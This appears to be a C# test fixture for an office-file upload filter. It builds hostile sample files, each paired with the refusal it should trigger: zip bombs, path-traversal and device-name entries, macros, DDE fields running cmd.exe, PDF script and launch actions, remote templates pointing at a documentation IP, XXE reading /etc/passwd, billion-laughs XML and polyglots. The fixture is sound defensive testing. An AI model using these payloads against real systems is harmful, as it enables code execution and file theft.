using System.Text;
using OfficeHub.Core.Files;

namespace OfficeHub.Tests.Core.Files;

/// <summary>A file that must not come in, and the refusal it must meet.</summary>
internal sealed record HostileFile(string FileName, Func<byte[]> Make, Type Refusal);

/// <summary>Hostile files, each made here and named by its trick.</summary>
internal static class HostileFiles
{
    private const string Vml = "xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"";
    private static readonly byte[] Compound = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]];

    public static IReadOnlyDictionary<string, HostileFile> All { get; } =
        Packages().Concat(Names()).Concat(Active()).Concat(Outside()).Concat(Types()).Concat(Xml()).Concat(Marked())
            .ToDictionary(file => file.Item1, file => file.Item2, StringComparer.Ordinal);

    private static (string Trick, HostileFile File) Docx<TRefusal>(string trick, Func<byte[]> make) => (trick, new("通知.docx", make, typeof(TRefusal)));

    private static (string Trick, HostileFile File) Xlsx<TRefusal>(string trick, Func<byte[]> make) => (trick, new("名单.xlsx", make, typeof(TRefusal)));

    private static (string Trick, HostileFile File) File<TRefusal>(string trick, string name, Func<byte[]> make) => (trick, new(name, make, typeof(TRefusal)));

    private static ZipBuilder.Part Part(string name, string content = "内容") => new(Encoding.UTF8.GetBytes(name), Encoding.UTF8.GetBytes(content));

    private static byte[] DocxWith(ZipBuilder.Part part) => OfficePackage.Docx().Package().Add(part).Build();

    private static string Field(params string[] runs) => "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
        + string.Concat(runs.Select(run => $"<w:r><w:instrText>{run}</w:instrText></w:r>")) + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    private static IEnumerable<(string, HostileFile)> Packages()
    {
        yield return Docx<ArchiveBomb>("zip bomb by ratio", () => DocxWith(new("word/media/a.bin"u8.ToArray(), new byte[20_000_000])));
        yield return Docx<ArchiveBomb>("zip bomb in XML", () => OfficePackage.Docx().With("word/comments.xml", "<a>" + new string(' ', 20_000_000) + "</a>").Build());
        yield return Docx<ArchiveTooLarge>("more inflated bytes than allowed, ratio held low", () => Large(12));
        yield return Docx<ArchiveTooManyEntries>("eleven thousand entries", () => Many(11_000));
        yield return Docx<ArchiveTooManyEntries>("seventy thousand entries", () => Many(70_000));
        yield return Docx<FileDamaged>("entry declares less than it holds", () => DocxWith(new("word/media/a.bin"u8.ToArray(), new byte[5_000]) { DeclaredLength = 10 }));
        yield return Docx<FileDamaged>("entry declares more than it holds", () => DocxWith(new("word/media/a.bin"u8.ToArray(), new byte[50]) { DeclaredLength = 5_000 }));
        yield return Docx<FileDamaged>("compressed bytes are rubbish", () => DocxWith(new("word/media/a.bin"u8.ToArray(), new byte[50]) { RawData = [0xFF, 0xFF, 0xFF, 0xFF, 1, 2, 3] }));
        yield return Docx<FileDamaged>("local name differs from the directory", () => DocxWith(Part("word/a.txt") with { LocalName = "word/b.txt"u8.ToArray() }));
        yield return Docx<FileDamaged>("cut off at half", () => OfficePackage.Docx().Build()[..600]);
        yield return Docx<ArchiveNested>("package inside a package", () => DocxWith(new("word/a.bin"u8.ToArray(), OfficePackage.Xlsx().Build())));
        yield return Docx<ArchiveNested>("stored package inside a package", () => DocxWith(new("word/a.bin"u8.ToArray(), OfficePackage.Xlsx().Build()) { Stored = true }));
        yield return Docx<ArchiveOverlapping>("two entries over the same bytes", () => OfficePackage.Docx().Package().Add(Part("word/a.txt")).Add(Part("word/b.txt") with { SharesHeaderOf = 1 }).Build());
        yield return Docx<ArchiveDuplicateName>("two entries of one name", () => DocxWith(Part("word/document.xml")));
        yield return Docx<ArchiveDuplicateName>("names that differ in case", () => DocxWith(Part("WORD/Document.XML")));
        yield return Docx<ArchiveDuplicateName>("names that differ in composition", () => OfficePackage.Docx().Package().Add(Part("word/é.txt")).Add(Part("word/e\u0301.txt")).Build());
        yield return Docx<FileEncrypted>("encrypted entry", () => DocxWith(Part("word/a.txt") with { Flags = 1 }));
        yield return Docx<ArchiveSpecialFile>("symbolic link", () => DocxWith(Part("word/a.txt", "/etc/passwd") with { UnixMode = 0xA1FF }));
        yield return Docx<ArchivePrefixed>("program before the package, offsets unchanged", () => OfficePackage.Docx().Package(new ZipBuilder { Prefix = "PK program"u8.ToArray() }).Build());
        yield return Docx<FileDamaged>("second end of directory", () => WithSecondEnd(OfficePackage.Docx().Build()));
        yield return Docx<ArchivePrefixed>("package in the comment of another", () => OfficePackage.Docx().Package(new ZipBuilder { Comment = OfficePackage.Xlsx().Build() }).Build());
        yield return Docx<FileEncrypted>("password-protected document", () => Compound);
        yield return File<FileEmpty>("empty file", "通知.docx", () => []);
    }

    private static IEnumerable<(string, HostileFile)> Names()
    {
        string[] names =
        [
            "../../a.txt", "/etc/a.txt", "C:/a.txt", "//server/share/a.txt", "word\\..\\a.txt", "word/../a.txt", "word/./a.txt", "word//a.txt",
            "word/a\0.txt", "word/CON", "word/con.txt", "word/LPT1.xml", "word/a.txt.", "word/a.txt ", "word/a:b", "word/a\u202Etxt.exe", "word/" + new string('汉', 90),
        ];
        return names.Select((name, i) => Docx<ArchiveBadName>($"entry name {i}: {name.Replace("\0", "NUL", StringComparison.Ordinal)[..Math.Min(20, name.Length)]}", () => DocxWith(Part(name))));
    }

    private static IEnumerable<(string, HostileFile)> Active()
    {
        yield return Docx<MacroInside>("docm renamed", () => OfficePackage.Docx().MainType("application/vnd.ms-word.document.macroEnabled.main+xml").Build());
        yield return Docx<MacroInside>("vbaProject related", () => OfficePackage.Docx().Related("rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin").With("word/vbaProject.bin", Compound).Build());
        yield return Docx<MacroInside>("vbaProject unrelated", () => OfficePackage.Docx().With("word/vbaProject.bin", Compound).Build());
        yield return Docx<MacroInside>("macro data part", () => OfficePackage.Docx().Typed("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml").With("word/vbaData.xml", "<a/>").Build());
        yield return Xlsx<MacroInside>("xlsm renamed", () => OfficePackage.Xlsx().MainType("application/vnd.ms-excel.sheet.macroEnabled.main+xml").Build());
        yield return Xlsx<MacroInside>("XLM macro sheet", () => OfficePackage.Xlsx().Related("rId9", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml").With("xl/macrosheets/sheet1.xml", "<a/>").Build());
        yield return Xlsx<MacroInside>("XLM name auto_open", () => OfficePackage.Xlsx(more: "<definedNames><definedName name=\"_xlnm.Auto_Open\">Sheet1!$A$1</definedName></definedNames>").Build());
        yield return Xlsx<MacroInside>("XLM EXEC in a formula", () => OfficePackage.Xlsx("<row><c><f>EXEC(\"calc\")</f></c></row>").Build());
        yield return File<MacroInside>("macro behind a shape on a slide", "汇报.pptx", () => OfficePackage.Pptx("<a:hlinkClick action=\"ppaction://macro?name=Run\"/>").Build());
        yield return Docx<ActiveXInside>("ActiveX related", () => OfficePackage.Docx().Related("rId9", "control", "activeX/activeX1.xml").With("word/activeX/activeX1.xml", "<a/>").Build());
        yield return Docx<ActiveXInside>("ActiveX typed", () => OfficePackage.Docx().Typed("word/x.xml", "application/vnd.ms-office.activeX+xml").With("word/x.xml", "<a/>").Build());
        yield return Docx<OleObjectInside>("OLE object related", () => OfficePackage.Docx().Related("rId9", "oleObject", "embeddings/oleObject1.bin").With("word/embeddings/oleObject1.bin", Compound).Build());
        yield return Docx<OleObjectInside>("OLE object under a picture's name", () => OfficePackage.Docx().With("word/media/image1.png", Compound).Build());
        yield return Xlsx<OleObjectInside>("OLE link", () => OfficePackage.Xlsx().With("xl/externalLinks/externalLink1.xml", "<externalLink><oleLink/></externalLink>").Build());
        yield return Docx<DdeInside>("DDE field", () => OfficePackage.Docx(Field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")).Build());
        yield return Docx<DdeInside>("DDE field cut into runs", () => OfficePackage.Docx(Field(" D", "D", "E", " cmd")).Build());
        yield return Docx<DdeInside>("DDE in a simple field", () => OfficePackage.Docx("<w:p><w:fldSimple w:instr=\" dde cmd\"/></w:p>").Build());
        yield return Docx<DdeInside>("DDE name made by another field", () => OfficePackage.Docx(
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> </w:instrText></w:r>" + Field("QUOTE 68 68 69")[5..^6] + "</w:p>").Build());
        yield return Docx<DdeInside>("DDE in a header under another extension", () => OfficePackage.Docx().With("word/header1.dat", "<w:hdr xmlns:w=\"w\">" + Field("DDE cmd") + "</w:hdr>").Build());
        yield return Xlsx<DdeInside>("DDE formula", () => OfficePackage.Xlsx("<row><c><f>cmd|' /C calc'!A0</f></c></row>").Build());
        yield return Xlsx<DdeInside>("DDE link", () => OfficePackage.Xlsx().Related("rId9", "externalLink", "externalLinks/externalLink1.xml").With("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>").Build());
        yield return Docx<ArchiveNested>("web page embedded as altChunk", () => OfficePackage.Docx().Related("rId9", "aFChunk", "afchunk.mht").With("word/afchunk.mht", "MIME-Version: 1.0"u8.ToArray()).Build());
        yield return Docx<ArchiveNested>("program embedded", () => OfficePackage.Docx().With("word/media/image1.emf", "MZ\u0090\0 program"u8.ToArray()).Build());
        yield return File<ActivePdf>("PDF with script", "通知.pdf", () => CleanFiles.Pdf("<< /S /JavaScript /JS (app.alert(1)) >>"));
        yield return File<ActivePdf>("PDF with escaped script", "通知.pdf", () => CleanFiles.Pdf("<< /S /J#61vaScript >>"));
        yield return File<ActivePdf>("PDF that starts a program", "通知.pdf", () => CleanFiles.Pdf("<< /S /Launch /F (cmd.exe) >>"));
        yield return File<ActivePdf>("PDF with a file attached", "通知.pdf", () => CleanFiles.Pdf(new string(' ', 65_530) + "<< /Type /EmbeddedFile >>"));
    }

    private static IEnumerable<(string, HostileFile)> Outside()
    {
        yield return Docx<RemoteTemplateInside>("remote template", () => OfficePackage.Docx().Related("rId9", "attachedTemplate", "http://198.51.100.7/a.dotm", outside: true).Build());
        yield return Docx<ExternalLinkInside>("external picture", () => OfficePackage.Docx().Related("rId9", "image", "http://198.51.100.7/a.png", outside: true).Build());
        yield return Docx<ExternalLinkInside>("external picture on a share", () => OfficePackage.Docx().Related("rId9", "image", "file:///\\\\198.51.100.7\\a.png", outside: true).Build());
        yield return Docx<ExternalLinkInside>("external frame", () => OfficePackage.Docx().Related("rId9", "frame", "http://198.51.100.7/", outside: true).Build());
        yield return Docx<ExternalLinkInside>("picture field", () => OfficePackage.Docx(Field("INCLUDEPICTURE \"http://198.51.100.7/a.png\" \\d")).Build());
        yield return Docx<ExternalLinkInside>("drawing that fetches", () => OfficePackage.Docx().With("word/a.vml", $"<xml {Vml}><v:imagedata src=\"http://198.51.100.7/a.png\"/></xml>").Build());
        yield return Xlsx<ExternalLinkInside>("external workbook", () => OfficePackage.Xlsx().Related("rId9", "externalLink", "externalLinks/externalLink1.xml").With("xl/externalLinks/externalLink1.xml", "<externalLink/>").Build());
        yield return Xlsx<ExternalLinkInside>("data connection", () => OfficePackage.Xlsx().Related("rId9", "connections", "connections.xml").With("xl/connections.xml", "<connections/>").Build());
        yield return Xlsx<ExternalLinkInside>("formula that fetches", () => OfficePackage.Xlsx("<row><c><f>_xlfn.WEBSERVICE(\"http://198.51.100.7\")</f></c></row>").Build());
        yield return Docx<UnsafeHyperlinkInside>("hyperlink to a share", () => OfficePackage.Docx().Related("rId9", "hyperlink", "file://198.51.100.7/a.exe", outside: true).Build());
        yield return Docx<UnsafeHyperlinkInside>("hyperlink that is a script", () => OfficePackage.Docx().Related("rId9", "hyperlink", "java&#10;script:alert(1)", outside: true).Build());
        yield return Docx<UnsafeHyperlinkInside>("hyperlink field to a drive", () => OfficePackage.Docx(Field("HYPERLINK \"C:\\\\windows\\\\calc.exe\"")).Build());
        yield return Xlsx<UnsafeHyperlinkInside>("hyperlink formula to a share", () => OfficePackage.Xlsx("<row><c><f>HYPERLINK(\"\\\\198.51.100.7\\a\",\"看\")</f></c></row>").Build());
    }

    private static IEnumerable<(string, HostileFile)> Types()
    {
        var html = "<html><script>alert(1)</script></html>"u8.ToArray();
        yield return Docx<FileKindMismatch>("web page named docx", () => html);
        yield return File<FileKindMismatch>("web page named txt", "说明.txt", () => html);
        yield return File<FileKindMismatch>("SVG named png", "图.png", () => "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray());
        yield return File<FileKindMismatch>("program named txt", "说明.txt", () => "MZ\u0090\0\u0003\0"u8.ToArray());
        yield return Docx<FileKindMismatch>("workbook named docx", () => OfficePackage.Xlsx().Build());
        yield return Docx<FileKindMismatch>("plain package named docx", () => new ZipBuilder().Add("a.txt", "内容").Build());
        yield return File<FileKindMismatch>("plain package named ofd", "公文.ofd", () => new ZipBuilder().Add("a.txt", "内容").Build());
        yield return File<FileKindMismatch>("picture named pdf", "扫描件.pdf", () => Pictures.Png(10, 10));
        yield return File<FileKindNotAllowed>("program", "安装.exe", () => "MZ"u8.ToArray());
        yield return File<FileKindNotAllowed>("docm", "通知.docm", () => OfficePackage.Docx().Build());
        yield return File<FileKindNotAllowed>("zip", "材料.zip", () => new ZipBuilder().Add("a.txt", "内容").Build());
        yield return File<FileKindNotAllowed>("no extension", "通知", () => "内容"u8.ToArray());
        yield return File<FileKindNotAllowed>("two extensions", "通知.docx.exe", () => OfficePackage.Docx().Build());
        yield return File<FilePolyglot>("picture that is a package too", "图.png", () => Pictures.Png(10, 10, OfficePackage.Docx().Build()));
        yield return File<FilePolyglot>("photo that is a package too", "图.jpg", () => Pictures.Jpeg(10, 10, after: OfficePackage.Docx().Build()));
        yield return File<FilePolyglot>("picture with bytes after its end", "图.png", () => Pictures.Png(10, 10, html));
        yield return File<FilePolyglot>("photo with a web page in its comment", "图.jpg", () => Pictures.Jpeg(10, 10, html));
        yield return File<FilePolyglot>("package with a PDF in front", "通知.docx", () => OfficePackage.Docx().Package(new ZipBuilder().Add(new("a"u8.ToArray(), CleanFiles.Pdf()) { Stored = true })).Build());
        yield return File<PictureTooLarge>("picture bomb PNG", "图.png", () => Pictures.Png(50_000, 50_000));
        yield return File<PictureTooLarge>("picture bomb JPEG", "图.jpg", () => Pictures.Jpeg(65_000, 65_000));
        yield return Docx<PictureTooLarge>("picture bomb inside a document", () => OfficePackage.Docx().With("word/media/image1.png", Pictures.Png(50_000, 50_000)).Build());
        yield return File<FileDamaged>("picture cut off", "图.png", () => Pictures.Png(10, 10)[..40]);
        yield return File<FileDamaged>("PDF cut off", "通知.pdf", () => CleanFiles.Pdf()[..40]);
        yield return File<FileNameBad>("name that leaves the folder", "../通知.docx", () => OfficePackage.Docx().Build());
        yield return File<FileNameBad>("name read backwards", "通知\u202Excod.exe", () => OfficePackage.Docx().Build());
        yield return File<FileNameBad>("device name", "NUL.txt", () => "内容"u8.ToArray());
    }

    private static IEnumerable<(string, HostileFile)> Xml()
    {
        const string Laughs = "<!DOCTYPE a [<!ENTITY b \"ha\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">]><a>&c;</a>";
        yield return Docx<XmlUnsafe>("external entity", () => OfficePackage.Docx().With("word/comments.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>").Build());
        yield return Docx<XmlUnsafe>("billion laughs", () => OfficePackage.Docx().With("word/comments.xml", Laughs).Build());
        yield return Docx<XmlUnsafe>("laughs in UTF-16", () => OfficePackage.Docx().With("word/a.dat", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Laughs)]).Build());
        yield return Docx<XmlUnsafe>("a thousand elements deep", () => OfficePackage.Docx().With("word/comments.xml", string.Concat(Enumerable.Repeat("<a>", 1000)) + string.Concat(Enumerable.Repeat("</a>", 1000))).Build());
        yield return Docx<XmlUnsafe>("relationships malformed", () => OfficePackage.Docx().With("word/_rels/footer1.xml.rels", "<Relationships>").Build());
        yield return File<XmlUnsafe>("external entity in an OFD", "公文.ofd", () => OfficePackage.Ofd().Add("Doc_0/Tags.xml", "<!DOCTYPE a SYSTEM \"http://198.51.100.7/a.dtd\"><a/>").Build());
    }

    private static IEnumerable<(string, HostileFile)> Marked()
    {
        yield return File<SecrecyMarkFound>("mark in the file name", "（机密）名单.xlsx", () => OfficePackage.Xlsx().Build());
        yield return Docx<SecrecyMarkFound>("mark at the head of a document", () => OfficePackage.Docx("<w:p><w:r><w:t>机密</w:t></w:r><w:r><w:t>★1年</w:t></w:r></w:p>").Build());
        yield return Docx<SecrecyMarkFound>("mark as a watermark", () => OfficePackage.Docx().With("word/header1.xml", $"<w:hdr xmlns:w=\"w\" {Vml}><v:textpath string=\"机密\"/></w:hdr>").Build());
        yield return Xlsx<SecrecyMarkFound>("mark in a cell", () => OfficePackage.Xlsx("<row><c t=\"inlineStr\"><is><t>绝密★长期</t></is></c></row>").Build());
        yield return File<SecrecyMarkFound>("mark in a text of the national encoding", "要情.txt", () => CodePagesEncodingProvider.Instance.GetEncoding("GB18030")!.GetBytes("秘密★5年\n要情"));
        yield return File<SecrecyMarkFound>("mark in a text that is none", "要情.txt", () => "秘密★5年\n要情\u0001"u8.ToArray());
        yield return File<SecrecyMarkFound>("mark in a web page named txt", "要情.txt", () => "<html>\n机密★1年\n</html>"u8.ToArray());
        yield return File<SecrecyMarkFound>("mark in a part cut off", "通知.docx", () => OfficePackage.Docx().With("word/z.xml", "<a><p><t>机密★1年</t></p>").Build());
        yield return File<SecrecyMarkFound>("mark in a bad file name", "（机密）名单\u202Exslx.exe", () => OfficePackage.Xlsx().Build());
        yield return File<SecrecyMarkFound>("mark in a table as text", "名单.csv", () => "密级：机密,姓名\n"u8.ToArray());
        yield return File<SecrecyMarkFound>("mark in an OFD", "公文.ofd", () => OfficePackage.Ofd("机密★10年").Build());
    }

    private static byte[] WithSecondEnd(byte[] package)
    {
        var end = package[^22..];
        BitConverter.TryWriteBytes(end.AsSpan(12), BitConverter.ToUInt32(end, 12) + 22);
        return [.. package, .. end];
    }

    private static byte[] Many(int count)
    {
        var zip = OfficePackage.Docx().Package();
        for (var i = 0; i < count; i++)
        {
            zip.Add(new ZipBuilder.Part(Encoding.ASCII.GetBytes($"word/{i}"), []) { Stored = true });
        }

        return zip.Build();
    }

    /// <summary>Parts that inflate about fifty-fold, so that only the sum shows.</summary>
    private static byte[] Large(int parts)
    {
        var content = new byte[50_000_000];
        var random = new Random(20260701);
        for (var at = 0; at < content.Length; at += 1_000)
        {
            random.NextBytes(content.AsSpan(at, 20));
        }

        var data = ZipBuilder.Deflate(content);
        var zip = OfficePackage.Docx().Package();
        for (var i = 0; i < parts; i++)
        {
            zip.Add(new ZipBuilder.Part(Encoding.ASCII.GetBytes($"word/media/{i}.bin"), content) { RawData = data });
        }

        return zip.Build();
    }
}
